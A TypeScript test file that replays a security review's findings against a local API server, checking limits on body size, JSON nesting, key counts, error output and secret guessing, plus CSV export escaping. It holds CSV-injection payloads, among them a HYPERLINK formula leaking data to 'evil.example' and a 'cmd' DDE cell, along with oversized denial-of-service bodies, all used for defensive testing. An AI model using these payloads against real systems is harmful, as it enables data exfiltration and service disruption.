import assert from 'node:assert/strict'
import { type ChildProcess, execFile, spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import http from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, type TestContext, test } from 'node:test'
import { BIN, createTestDatabase, freePort, onPostgres, type TestDatabase } from './helpers.ts'

/**
 * The security review's findings (issue 20), replayed against a real node: `intake serve` in a process
 * of its own, on the embedded database or on PostgreSQL (TEST_DATABASE_URL), with its default limits
 * but the data endpoints' rate limit (raised). Every loop is bounded in time, and the load is sized for
 * two shared cores. TRUST_PROXY=loopback lets each case speak from an address of its own
 * (X-Forwarded-For), so that the per-address limits of one case do not spill into the next.
 */

const MiB = 1024 * 1024

interface Answer {
  readonly status: number
  readonly headers: http.IncomingHttpHeaders
  readonly text: string
  readonly ms: number
}

/** Resident memory of a process, from /proc. */
async function rssOf(pid: number): Promise<number> {
  const status = await readFile(`/proc/${pid}/status`, 'utf8')
  const kb = /VmRSS:\s+(\d+)/.exec(status)?.[1]
  return Number(kb) * 1024
}

const percentile = (values: readonly number[], p: number) => {
  const sorted = [...values].sort((a, b) => a - b)
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] as number
}

describe('hostile traffic against a running node', { timeout: 240_000 }, () => {
  let dataDir: string
  let database: TestDatabase | undefined
  let env: NodeJS.ProcessEnv
  let server: ChildProcess
  let port: number
  let victim: { id: string; secret: string; token: string }
  let attacker: { id: string; secret: string; token: string }

  const intake = (...args: string[]) =>
    new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
      execFile(process.execPath, [BIN, ...args], { env, maxBuffer: 16 * MiB }, (error, stdout, stderr) =>
        resolve({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }),
      )
    })

  /** One request over its own connection; a body refused before it was sent whole still gets its answer. */
  function send(
    method: string,
    path: string,
    options: {
      headers?: Record<string, string>
      body?: string | Buffer
      from?: string
      bodyAfterMs?: number
      /** Sends the head (announcing the body's length) and never the body: for answers given on the head alone. */
      headOnly?: boolean
    } = {},
  ): Promise<Answer> {
    const started = performance.now()
    return new Promise((resolve, reject) => {
      const request = http.request(
        {
          host: '127.0.0.1',
          port,
          method,
          path,
          agent: false,
          headers: {
            ...(options.from === undefined ? {} : { 'x-forwarded-for': options.from }),
            ...(options.body === undefined ? {} : { 'content-length': String(Buffer.byteLength(options.body)) }),
            ...options.headers,
          },
        },
        (response) => {
          const chunks: Buffer[] = []
          response.on('data', (chunk: Buffer) => chunks.push(chunk))
          response.on('end', () => {
            if (options.headOnly) request.destroy()
            resolve({
              status: response.statusCode ?? 0,
              headers: response.headers,
              text: Buffer.concat(chunks).toString('utf8'),
              ms: performance.now() - started,
            })
          })
          response.on('error', reject)
        },
      )
      // The server may answer and close before the whole body is written (413): that is its answer.
      request.on('error', (error: NodeJS.ErrnoException) => {
        if (error.code !== 'EPIPE' && error.code !== 'ECONNRESET') reject(error)
        else setTimeout(() => resolve({ status: 0, headers: {}, text: '', ms: performance.now() - started }), 2_000)
      })
      if (options.headOnly) {
        request.flushHeaders()
      } else if (options.bodyAfterMs === undefined) {
        request.end(options.body)
      } else {
        // The head alone first: a server that refuses by Content-Length answers before the body is sent.
        request.flushHeaders()
        setTimeout(() => request.end(options.body), options.bodyAfterMs)
      }
    })
  }

  const json = (body: unknown) => ({ headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
  const bearer = (token: string) => ({ authorization: `Bearer ${token}` })

  async function tokenOf(id: string, secret: string, from: string): Promise<string> {
    const answer = await send('POST', '/v3/oauth2/token', {
      from,
      ...json({ client_id: id, client_secret: secret, grant_type: 'client_credentials' }),
    })
    assert.equal(answer.status, 200, answer.text)
    return JSON.parse(answer.text).access_token
  }

  async function createClient(name: string) {
    const created = await intake('clients', 'create', '--name', name)
    assert.equal(created.code, 0, created.stderr)
    const printed = JSON.parse(created.stdout)
    return { id: printed.client_id as string, secret: printed.client_secret as string, token: '' }
  }

  before(async () => {
    dataDir = await mkdtemp(join(tmpdir(), 'intake-hostile-'))
    database = onPostgres ? await createTestDatabase() : undefined
    env = {
      PATH: process.env.PATH,
      LOG_LEVEL: 'warn',
      TRUST_PROXY: 'loopback',
      // The event-loop shedding has tests of its own (overload.test.ts); on a machine shared with other
      // work it would answer 503 for reasons of its own and hide what each case looks at.
      MAX_EVENT_LOOP_DELAY_MS: '10000',
      // The victim's traffic, measured again when a window is over its bound, may pass the default
      // 1,200 requests a minute; the data endpoints' rate limit has tests of its own (rate-limits.test.ts).
      REQUESTS_PER_MINUTE: '1000000',
      ...(database?.url === undefined ? { DATA_DIR: dataDir } : { DATABASE_URL: database.url }),
    }
    const migrated = await intake('migrate')
    assert.equal(migrated.code, 0, migrated.stderr)
    victim = await createClient('victim')
    attacker = await createClient('attacker')
    port = await freePort()
    server = spawn(process.execPath, [BIN, 'serve'], { env: { ...env, PORT: String(port), HOST: '127.0.0.1' } })
    server.stderr?.resume()
    await new Promise<void>((resolve, reject) => {
      server.stdout?.on('data', () => {})
      server.once('exit', (code) => reject(new Error(`the server exited (${code}) before listening`)))
      const poll = setInterval(() => {
        send('GET', '/healthz').then(
          (answer) => {
            if (answer.status !== 200) return
            clearInterval(poll)
            resolve()
          },
          () => {},
        )
      }, 100)
    })
    victim.token = await tokenOf(victim.id, victim.secret, '192.0.2.1')
    attacker.token = await tokenOf(attacker.id, attacker.secret, '192.0.2.2')
  })

  after(async () => {
    if (server.exitCode === null) {
      server.kill('SIGTERM')
      await once(server, 'exit')
    }
    await database?.drop()
    await rm(dataDir, { recursive: true, force: true })
  })

  /**
   * The victim's requests, one after another, for `ms`: their latencies and statuses. They run in a
   * process of their own, so that the attackers' work in this one (building and writing 16 MB
   * bodies) never counts in the victim's latencies.
   */
  async function victimTraffic(ms: number): Promise<{ latencies: number[]; statuses: number[] }> {
    const script = `
      const http = require('node:http')
      const latencies = [], statuses = []
      const until = performance.now() + Number(process.env.MS)
      const once = () => new Promise((resolve) => {
        const started = performance.now()
        http.get({ host: '127.0.0.1', port: Number(process.env.PORT), path: '/v3/ats/application-steps?limit=1', agent: false,
          headers: { authorization: 'Bearer ' + process.env.TOKEN, 'x-forwarded-for': '192.0.2.1' } }, (response) => {
          response.resume()
          response.on('end', () => { latencies.push(performance.now() - started); statuses.push(response.statusCode); resolve() })
        }).on('error', () => { statuses.push(0); resolve() })
      })
      ;(async () => {
        while (performance.now() < until) { await once(); await new Promise((r) => setTimeout(r, 10)) }
        process.stdout.write(JSON.stringify({ latencies, statuses }))
      })()
    `
    const child = spawn(process.execPath, ['-e', script], {
      env: { PATH: process.env.PATH, PORT: String(port), TOKEN: victim.token, MS: String(ms) },
    })
    let output = ''
    child.stdout?.on('data', (chunk: Buffer) => {
      output += chunk.toString()
    })
    await once(child, 'exit')
    return JSON.parse(output)
  }

  test('an 8 MB client_id, 30 times: 413 at once, the memory stays where it was, tokens still work', async () => {
    const before = await rssOf(server.pid as number)
    const body = JSON.stringify({
      client_id: 'x'.repeat(8 * MiB),
      client_secret: 'nothing',
      grant_type: 'client_credentials',
    })
    let highest = before
    for (let wave = 0; wave < 3; wave++) {
      // One of each wave sends only its head, so its answer is read whatever the others do; the others
      // send everything at once, and may see (status 0) the connection closed by the server before they
      // could read its 413: the body is refused by its Content-Length either way, never read.
      const answers = await Promise.all(
        Array.from({ length: 10 }, (_, index) =>
          send('POST', '/v3/oauth2/token', {
            headers: { 'content-type': 'application/json' },
            body,
            from: '198.51.100.1',
            ...(index === 0 ? { headOnly: true } : {}),
          }),
        ),
      )
      assert.equal(answers[0]?.status, 413)
      for (const answer of answers) {
        assert.ok([413, 0].includes(answer.status), `${answer.status} ${answer.text.slice(0, 200)}`)
        if (answer.status === 413) assert.match(JSON.parse(answer.text).message, /4096 bytes/)
      }
      highest = Math.max(highest, await rssOf(server.pid as number))
    }
    assert.ok(highest - before < 48 * MiB, `RSS grew by ${Math.round((highest - before) / MiB)} MiB`)
    assert.equal(server.exitCode, null)
    await tokenOf(victim.id, victim.secret, '198.51.100.1')
  })

  /**
   * The bound on the victim's p99 under attack: 100 ms, or three times its p99 alone on this machine
   * now when that is more (a machine shared with other work). The code before the limits stalled the
   * victim for seconds, past either.
   */
  let victimBound = 100
  test('the victim alone: its p99 sets the bound of the cases below', async () => {
    const { latencies, statuses } = await victimTraffic(1_500)
    assert.deepEqual([...new Set(statuses)], [200])
    victimBound = Math.max(100, 3 * percentile(latencies, 99))
  })

  /**
   * The victim's p99 while `attack` runs, under victimBound. A machine shared with other work can stall
   * any process for a moment, so a window over the bound is measured once more before the test fails;
   * the code before the limits stalled the victim for seconds, in every window.
   */
  async function victimStaysUnderBound(t: TestContext, attack: () => Promise<{ latencies: number[] }>) {
    const seen: number[] = []
    for (let attempt = 0; attempt < 2; attempt++) {
      seen.push(percentile((await attack()).latencies, 99))
      if ((seen.at(-1) as number) < victimBound) break
    }
    const words = `victim p99 ${seen.map((ms) => ms.toFixed(0)).join(' ms, then ')} ms (bound ${victimBound.toFixed(0)})`
    t.diagnostic(words)
    assert.ok((seen.at(-1) as number) < victimBound, words)
  }

  test('16 MB of nested arrays to the token and batch endpoints: refused at once, the other tenant unaffected', async (t) => {
    const nested = `${'['.repeat(8 * MiB)}${']'.repeat(8 * MiB)}`
    await victimStaysUnderBound(t, async () => {
      const traffic = victimTraffic(1_500)
      const answers = await Promise.all([
        ...Array.from({ length: 3 }, () =>
          send('POST', '/v3/oauth2/token', {
            headers: { 'content-type': 'application/json' },
            body: nested,
            from: '198.51.100.2',
          }),
        ),
        send('POST', '/v3/jobboard/job-offers', {
          headers: { 'content-type': 'application/json', ...bearer(attacker.token) },
          body: nested.slice(0, 15 * MiB),
        }),
      ])
      for (const answer of answers.slice(0, 3)) assert.ok([413, 0].includes(answer.status), answer.text)
      const batch = answers[3] as Answer
      assert.equal(batch.status, 400, batch.text)
      assert.match(JSON.parse(batch.text).message, /JSON_MAX_DEPTH/)
      // Uploading 16 MB over loopback on a busy machine is most of it; parsing them took 5 to 20 s before.
      for (const answer of answers) assert.ok(answer.ms < 5_000, `answered after ${answer.ms} ms`)
      const victim = await traffic
      assert.ok(
        victim.statuses.every((status) => status === 200),
        `victim statuses ${[...new Set(victim.statuses)]}`,
      )
      return victim
    })
  })

  test('a job offer with 1.15 million unknown keys (13.8 MB): a small 400 naming the limit, at once', async () => {
    const keys: string[] = []
    for (let i = 0; i < 1_150_000; i++) keys.push(`"k${i}":1`)
    const body = `[{"reference":"JO-1",${keys.join(',')}}]`
    assert.ok(body.length > 13 * 1_000_000)
    const answer = await send('POST', '/v3/jobboard/job-offers', {
      headers: { 'content-type': 'application/json', ...bearer(attacker.token) },
      body,
    })
    assert.equal(answer.status, 400)
    assert.ok(answer.text.length < 2_000, `${answer.text.length} bytes`)
    assert.match(JSON.parse(answer.text).message, /more than 100 keys \(JSON_MAX_KEYS_PER_OBJECT\)/)
    assert.ok(answer.ms < 2_000, `answered after ${answer.ms} ms`)
  })

  test('a batch of 5000 items with every problem the limits allow: the errors are bounded, then summed up', async () => {
    const item = Object.fromEntries(Array.from({ length: 99 }, (_, i) => [`unknown_${i}`, i]))
    const answer = await send('POST', '/v3/jobboard/job-offers', {
      headers: { 'content-type': 'application/json', ...bearer(attacker.token) },
      body: JSON.stringify(Array.from({ length: 5_000 }, () => item)),
    })
    assert.equal(answer.status, 400)
    const { errors } = JSON.parse(answer.text) as { errors: { message: string; data: unknown }[] }
    assert.equal(errors.length, 1_001)
    assert.deepEqual(errors[0]?.data, { index: 0, field: 'reference' })
    assert.match(errors[20]?.message ?? '', /^and 80 more problems with this item/)
    // 100 problems per item, 21 entries each: 47 items and 13 entries of the 48th shown.
    assert.equal(
      errors[1_000]?.message,
      `and ${5_000 * 100 - 47 * 100 - 13} more problems (MAX_ERRORS_PER_BATCH is 1000)`,
    )
    assert.ok(answer.text.length < 200_000, `${answer.text.length} bytes`)
  })

  test("another tenant's p99 stays under 100 ms while the token and batch endpoints get the worst bodies allowed", async (t) => {
    // The worst the limits let through: 4 KiB token bodies, and batches just under every limit, with
    // every item wrong in as many ways as its keys allow (so that all of it is parsed and validated).
    const tokenBody = `client_id=${'a'.repeat(2_000)}&client_secret=${'b'.repeat(2_000)}&grant_type=client_credentials`
    const item = Object.fromEntries([
      ...Array.from({ length: 90 }, (_, i) => [`unknown_${i}`, i]),
      ['reference', 'x'.repeat(300)],
      ['title', 42],
    ])
    const batch = JSON.stringify(Array.from({ length: 1_000 }, () => item))
    await victimStaysUnderBound(t, async () => {
      let stop = false
      const attacks = [
        (async () => {
          let n = 0
          while (!stop) {
            await send('POST', '/v3/oauth2/token', {
              headers: { 'content-type': 'application/x-www-form-urlencoded' },
              body: tokenBody,
              from: `203.0.113.${n++ % 200}`,
            })
          }
        })(),
        (async () => {
          while (!stop) {
            const answer = await send('POST', '/v3/jobboard/job-offers', {
              headers: { 'content-type': 'application/json', ...bearer(attacker.token) },
              body: batch,
            })
            assert.equal(answer.status, 400)
          }
        })(),
      ]
      let victim: Awaited<ReturnType<typeof victimTraffic>>
      try {
        victim = await victimTraffic(8_000)
      } finally {
        // The attacks stop whatever happened to the victim's traffic, and their own failures are read.
        stop = true
        await Promise.all(attacks)
      }
      assert.ok(
        victim.statuses.every((status) => status === 200),
        `victim statuses ${[...new Set(victim.statuses)]}`,
      )
      return victim
    })
  })

  test('a flood of /readyz never makes the data endpoints answer 503', async () => {
    let stop = false
    const flood = Array.from({ length: 200 }, async () => {
      while (!stop) await send('GET', '/readyz').catch(() => {})
    })
    const { statuses } = await victimTraffic(4_000)
    stop = true
    await Promise.all(flood)
    assert.ok(statuses.length > 0)
    assert.deepEqual([...new Set(statuses)], [200])
  })

  test('a stranger with wrong secrets under a client id blocks only itself: the client still gets tokens', async () => {
    const wrong = json({ client_id: victim.id, client_secret: 'guess', grant_type: 'client_credentials' })
    const answers: number[] = []
    for (let i = 0; i < 25; i++)
      answers.push((await send('POST', '/v3/oauth2/token', { ...wrong, from: '198.51.100.66' })).status)
    assert.equal(answers.filter((status) => status === 401).length, 20)
    assert.equal(answers.at(-1), 429)
    await tokenOf(victim.id, victim.secret, '198.51.100.77')
  })

  test('items of 255 four-byte characters store and read back', async () => {
    // Characters drawn at random, as real text is: a repeated one would compress below the index's limit.
    const wide = () =>
      Array.from({ length: 255 }, () => String.fromCodePoint(0x20000 + Math.floor(Math.random() * 0xa6d0))).join('')
    const step = {
      recorded_at: '2026-11-20T10:15:00Z',
      job_offer_reference: wide(),
      candidate_ats_id: wide(),
      step: wide(),
      application_ats_id: wide(),
      subsidiary: wide(),
      source: wide(),
    }
    const stored = await send('POST', '/v3/ats/application-steps', {
      headers: { 'content-type': 'application/json', ...bearer(attacker.token) },
      body: JSON.stringify([step]),
    })
    assert.equal(stored.status, 201, stored.text)
    const id = JSON.parse(stored.text).data[0].id
    const read = await send('GET', `/v3/ats/application-steps/${id}`, { headers: bearer(attacker.token) })
    assert.equal(JSON.parse(read.text).data[0].source, step.source)
  })

  test('filters and cursors with characters outside the Basic Multilingual Plane', async () => {
    const steps = ['JO-😀', 'JO-😀', 'JO-𝄞'].map((reference, i) => ({
      recorded_at: '2026-11-21T10:00:00Z',
      job_offer_reference: reference,
      candidate_ats_id: `C-${i}`,
      step: 'applied',
      application_ats_id: `A-${i}`,
    }))
    const stored = await send('POST', '/v3/ats/application-steps', {
      headers: { 'content-type': 'application/json', ...bearer(victim.token) },
      body: JSON.stringify(steps),
    })
    assert.equal(stored.status, 201, stored.text)
    const filtered = await send(
      'GET',
      `/v3/ats/application-steps?job_offer_reference=${encodeURIComponent('JO-😀')}&limit=1`,
      { headers: bearer(victim.token) },
    )
    assert.equal(filtered.status, 200, filtered.text)
    const cursor = JSON.parse(filtered.text).next_cursor
    const next = await send(
      'GET',
      `/v3/ats/application-steps?job_offer_reference=${encodeURIComponent('JO-😀')}&limit=1&cursor=${cursor}`,
      { headers: bearer(victim.token) },
    )
    assert.equal(next.status, 200, next.text)
    const range = 'from=2026-11-21&to=2026-11-22&group_by=job_offer_reference'
    const funnel = await send('GET', `/v3/reports/funnel?${range}&limit=1`, { headers: bearer(victim.token) })
    assert.equal(funnel.status, 200, funnel.text)
    const funnelCursor = JSON.parse(funnel.text).next_cursor
    assert.equal(typeof funnelCursor, 'string')
    const second = await send('GET', `/v3/reports/funnel?${range}&limit=1&cursor=${funnelCursor}`, {
      headers: bearer(victim.token),
    })
    assert.equal(second.status, 200, second.text)
  })

  test('CSV exports neutralise cells a spreadsheet would run as formulas', async () => {
    const offers = [
      { reference: '=HYPERLINK("http://evil.example/?leak="&A1)', title: "+cmd|' /C calc'!A0" },
      { reference: '@SUM(1+1)', title: '-2+3', subsidiary: '\tTab', description: '\rReturn' },
      { reference: 'plain', title: 'a = b' },
    ]
    const stored = await send('POST', '/v3/jobboard/job-offers', {
      headers: { 'content-type': 'application/json', ...bearer(victim.token) },
      body: JSON.stringify(offers),
    })
    assert.equal(stored.status, 201, stored.text)
    const csv = await send('GET', '/v3/jobboard/job-offers', {
      headers: { ...bearer(victim.token), accept: 'text/csv' },
    })
    assert.equal(csv.status, 200)
    const cells = csv.text.split(/,|\r?\n/)
    for (const cell of cells) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, cell)
    assert.match(csv.text, /"'=HYPERLINK\(""http/)
    assert.match(csv.text, /'\+cmd/)
    assert.match(csv.text, /,a = b,plain,/)
  })

  test('1000 job offers with 100 KB descriptions: pages and exports bounded in bytes, every offer read once', async () => {
    const description = 'd'.repeat(100_000)
    for (let batch = 0; batch < 10; batch++) {
      const offers = Array.from({ length: 100 }, (_, i) => ({ reference: `WIDE-${batch * 100 + i}`, description }))
      const stored = await send('POST', '/v3/jobboard/job-offers', {
        headers: { 'content-type': 'application/json', ...bearer(attacker.token), prefer: 'return=minimal' },
        body: JSON.stringify(offers),
      })
      assert.equal(stored.status, 201, stored.text)
    }
    const before = await rssOf(server.pid as number)
    let highest = before
    const sampler = setInterval(() => {
      rssOf(server.pid as number).then(
        (rss) => {
          highest = Math.max(highest, rss)
        },
        () => {},
      )
    }, 50)
    const walks = Array.from({ length: 4 }, async () => {
      const seen = new Set<string>()
      let cursor: string | null = null
      let pages = 0
      do {
        const answer: Answer = await send(
          'GET',
          `/v3/jobboard/job-offers?reference=&limit=1000${cursor === null ? '' : `&cursor=${cursor}`}`.replace(
            'reference=&',
            '',
          ),
          { headers: bearer(attacker.token) },
        )
        assert.equal(answer.status, 200, answer.text.slice(0, 300))
        assert.ok(answer.text.length < 8 * MiB + 200_000, `a page of ${answer.text.length} bytes`)
        const page = JSON.parse(answer.text) as { data: { reference: string }[]; next_cursor: string | null }
        for (const offer of page.data) if (offer.reference.startsWith('WIDE-')) seen.add(offer.reference)
        cursor = page.next_cursor
        pages++
      } while (cursor !== null)
      return { seen: seen.size, pages }
    })
    const walked = await Promise.all(walks)
    const exported = await send('GET', '/v3/jobboard/job-offers', {
      headers: { ...bearer(attacker.token), accept: 'application/x-ndjson' },
    })
    clearInterval(sampler)
    for (const walk of walked) {
      assert.equal(walk.seen, 1_000)
      assert.ok(walk.pages >= 12, `${walk.pages} pages`)
    }
    assert.equal(
      exported.text
        .trim()
        .split('\n')
        .filter((line) => line.includes('"WIDE-')).length,
      1_000,
    )
    assert.ok(highest - before < 512 * MiB, `RSS grew by ${Math.round((highest - before) / MiB)} MiB`)
  })
})
